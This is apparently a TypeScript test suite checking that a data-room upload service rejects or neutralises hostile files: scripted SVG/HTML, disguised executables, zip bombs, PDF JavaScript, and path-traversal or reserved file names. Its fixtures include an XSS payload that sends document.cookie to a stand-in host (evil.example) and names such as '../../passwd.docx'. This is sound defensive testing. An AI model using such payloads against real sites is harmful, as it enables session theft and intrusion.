import { unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sideProcess } from '#platform/jobs/side-process.ts';
import { pictureProcess } from '#platform/pdf/page-pictures.ts';
import { type Client, createTestApp, type TestApp } from '#test/app.ts';
import { openRoom, provedMember, type RoomBuilder } from '#test/data-room.ts';
import { makeDocx, makePdf, makeZipBomb, multipart } from '#test/documents.ts';

let app: TestApp;
let room: RoomBuilder;
let folder: number;
let guest: Client;

beforeAll(async () => {
  app = await createTestApp();
  room = await openRoom(app, 'Mtajiline');
  folder = await room.folder('Financials');
  const group = await room.group('Fund');
  await room.guest(group, 'fund.example');
  await room.grant(group, { level: 'download' });
  guest = await provedMember(app, 'ama@fund.example');
});
afterAll(async () => {
  sideProcess.close();
  pictureProcess.close();
  await app.close();
});

const send = (name: string, bytes: Uint8Array) => {
  const fields = { startupId: String(room.startupId), documentType: 'legal_docs' };
  const { body, headers } = multipart({ name, bytes }, fields);
  return room.founder.post('/api/documents', body, headers);
};
const newFolder = (name: string, parentId?: number) =>
  room.founder.post(`${room.path}/folders`, { name, parentId });
const folders = async () => (await room.founder.get(room.path)).body.folders;

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;

describe('what is no document', () => {
  it.each([
    ['a picture with scripts', 'logo.svg', () => Buffer.from(SVG)],
    ['a page with scripts', 'deck.html', () => Buffer.from(`<!doctype html>${SCRIPT}`)],
    ['a page that calls itself a PDF', 'deck.pdf', () => Buffer.from(`<!doctype html>${SCRIPT}`)],
    ['a picture that calls itself a Word file', 'deck.docx', () => Buffer.from(SVG)],
    ['a program that calls itself a sheet', 'model.xlsx', () => Buffer.from('4d5a9000', 'hex')],
    ['an archive of anything', 'deck.docx', () => Buffer.from(zipSync({ 'a.txt': new Uint8Array(9) }))],
    ['an archive that unpacks to 210 MB', 'deck.docx', () => makeZipBomb(210)],
    [
      'an archive of 10,000 files',
      'deck.docx',
      () =>
        Buffer.from(
          zipSync(
            {
              'word/document.xml': Buffer.from('<w:document/>'),
              ...Object.fromEntries(
                Array.from({ length: 10_000 }, (_, index) => [`word/${index}.xml`, new Uint8Array(1)]),
              ),
            },
            { level: 0 },
          ),
        ),
    ],
    ['a PDF of 5,000 pages', 'deck.pdf', () => makePdf(Array.from({ length: 5_000 }, () => 'x'))],
  ])('is refused: %s', { timeout: 60_000 }, async (_what, name, make) => {
    const { status, problem } = await send(name, await make());
    expect([status, problem.errors?.[0]?.path]).toEqual([400, 'file']);
    expect(problem.message).not.toMatch(/Error|\/|undefined/);
  });
});

describe('scripts', () => {
  it('in a text are a text, sent as one and never as a page', async () => {
    const id = await room.file('notes.txt', Buffer.from(SVG), folder);
    const file = await guest.get(`${room.path}/documents/${id}/file`);
    expect(file.headers).toMatchObject({
      'content-type': 'text/plain; charset=utf-8',
      'content-disposition': expect.stringMatching(/^attachment;/),
      'x-content-type-options': 'nosniff',
    });
    const { body, headers } = await guest.get(`${room.path}/documents/${id}/pages/1`);
    expect(headers['content-type']).toContain('application/json');
    expect(body.text).toContain('onload="alert(1)"');
  });

  it(
    'in a PDF are not in what a guest takes away, and its page is a picture',
    { timeout: 60_000 },
    async () => {
      const pdf = await makePdf(['Income 2025'], { script: 'app.alert("read")' });
      expect(pdf.toString('latin1')).toContain('JavaScript');
      const id = await room.file('script.pdf', pdf, folder);
      const page = (await guest.get(`${room.path}/documents/${id}/pages/1`)).body;
      expect([page.text, page.picture?.width]).toEqual([null, expect.any(Number)]);
      const taken = (await guest.get(`${room.path}/documents/${id}/file`)).bytes;
      expect(taken.toString('latin1')).not.toContain('app.alert');
    },
  );
});

describe('names', () => {
  it(
    'with tricks of paths lead nowhere: neither on the server nor in an archive',
    { timeout: 60_000 },
    async () => {
      const inner = (await newFolder('../../etc', folder)).body.folders.find(
        ({ name }) => name === '../../etc',
      );
      const deep = (await newFolder('C:\\CON', inner?.id)).body.folders.find(
        ({ name }) => name === 'C:\\CON',
      );
      const names = [
        '../../passwd.docx',
        '/etc/passwd.docx',
        '..\\..\\boot.docx',
        'aux.docx',
        'plan.docx',
        'PLAN.docx',
      ];
      for (const [index, name] of names.entries())
        await room.file(name, makeDocx([`Paper ${index}`]), deep?.id ?? 0);
      const { bytes } = await guest.get(`${room.path}/files`);
      const paths = Object.keys(unzipSync(bytes)).filter((path) => path.endsWith('.docx'));
      expect(paths).toEqual([
        'Financials/_.._etc/C__CON/passwd.docx',
        'Financials/_.._etc/C__CON/passwd (2).docx',
        'Financials/_.._etc/C__CON/boot.docx',
        'Financials/_.._etc/C__CON/_aux.docx',
        'Financials/_.._etc/C__CON/plan.docx',
        'Financials/_.._etc/C__CON/PLAN (2).docx',
      ]);
      for await (const { key } of app.services.files.list()) expect(key).toMatch(/^[a-z0-9][a-z0-9/_.-]+$/);
    },
  );

  it.each(['', ' ', '\u200b', 'x'.repeat(81)])('that are none are refused: %j', async (name) => {
    const { status, problem } = await newFolder(name);
    expect([status, problem.errors?.[0]?.path]).toEqual([400, 'name']);
  });

  it('are single among folders that lie side by side, and free elsewhere', async () => {
    const company = await room.folder('Company');
    expect((await newFolder('COMPANY')).problem.errors?.[0]?.path).toBe('name');
    expect((await newFolder('Company', folder)).status).toBe(201);
    const move = { name: 'Company', parentId: folder, isArchived: false };
    const moved = await room.founder.put(`${room.path}/folders/${company}`, move);
    expect([moved.status, moved.problem.errors?.[0]?.path]).toEqual([400, 'name']);
  });
});

describe('folders', () => {
  it('lie in none of another room, not in themselves, and not too deep', async () => {
    const other = await openRoom(app, 'Rival');
    const foreign = await other.folder('Theirs');
    const outer = await room.folder('Outer');
    const inside = await room.folder('Inside', outer);
    const wrong = async (answer: Promise<{ status: number; problem: { errors?: { path: string }[] } }>) => {
      const { status, problem } = await answer;
      return [status, problem.errors?.[0]?.path];
    };
    const move = (id: number, parentId: unknown) =>
      room.founder.put(`${room.path}/folders/${id}`, { name: 'Outer', parentId, isArchived: false });
    for (const parentId of [foreign, outer, inside, 999_999, -1, 'x', 1.5])
      expect(await wrong(move(outer, parentId))).toEqual([400, 'parentId']);
    expect(await wrong(newFolder('Foreign', foreign))).toEqual([400, 'parentId']);
    let parent = inside;
    for (let depth = 3; depth <= 5; depth += 1) parent = await room.folder(`Deep ${depth}`, parent);
    expect(await wrong(newFolder('Too deep', parent))).toEqual([400, 'parentId']);
    expect((await room.founder.delete(`${room.path}/folders/${outer}`)).status).toBe(409);
    expect((await guest.post(`${room.path}/folders`, { name: 'Mine' })).status).toBe(404);
    expect((await folders()).find(({ id }) => id === inside)?.parentId).toBe(outer);
  });

  it(
    'are at most fifty, and an order names no more of them, whoever asks for 10,000',
    { timeout: 60_000 },
    async () => {
      const statuses = new Set<number>();
      for (let n = 0; n < 60; n += 1) statuses.add((await newFolder(`Folder ${n}`)).status);
      expect([...statuses]).toEqual([201, 409]);
      expect(await folders()).toHaveLength(50);
      const order = { folders: Array.from({ length: 10_000 }, (_, id) => ({ id: id + 1, documentIds: [] })) };
      expect((await room.founder.put(`${room.path}/order`, order)).status).toBe(400);
    },
  );
});
